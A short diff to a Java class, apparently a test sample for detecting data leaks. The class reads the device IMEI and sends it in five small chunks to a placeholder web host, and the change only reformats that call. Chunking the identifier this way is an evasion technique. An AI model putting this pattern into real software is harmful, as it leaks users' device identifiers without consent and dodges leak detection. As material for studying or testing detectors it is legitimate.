@@ -10,7 +10,12 @@ public class SplitRequests extends Screen {
     protected void act() throws Exception {
         String imei = Owner.imei(this);
         for (int i = 0; i < 5; i++) {
-            Net.get("http://forms.corpus.example/part" + "?n=" + i + "&v=" + imei.substring(3 * i, 3 * i + 3));
+            Net.get(
+                    "http://forms.corpus.example/part"
+                            + "?n="
+                            + i
+                            + "&v="
+                            + imei.substring(3 * i, 3 * i + 3));
         }
     }
 }
